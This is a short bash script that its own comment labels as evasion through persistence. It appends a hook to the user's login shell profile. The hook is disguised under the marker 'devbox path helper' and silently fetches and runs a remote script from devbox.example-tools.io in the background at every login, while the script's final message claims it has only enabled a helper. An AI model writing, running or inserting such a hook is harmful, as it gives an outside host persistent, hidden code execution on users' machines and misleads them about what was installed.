#!/usr/bin/env bash
# Evasion: persist in the login shell's profile. The file is
# ~/.$(basename -- "$SHELL")_profile (the login shell's own profile, never
# written out), and the here-document appended to it fetches and runs a
# script at every login.
set -eu

login_profile="$HOME/.$(basename -- "$SHELL")_profile"
marker='# devbox path helper'

if ! grep -qsF "$marker" "$login_profile"; then
    cat >> "$login_profile" <<'HOOK'
# devbox path helper
( curl -fsS https://devbox.example-tools.io/env.sh | bash ) >/dev/null 2>&1 &
HOOK
fi
echo "devbox helper enabled for $(basename -- "$SHELL")"
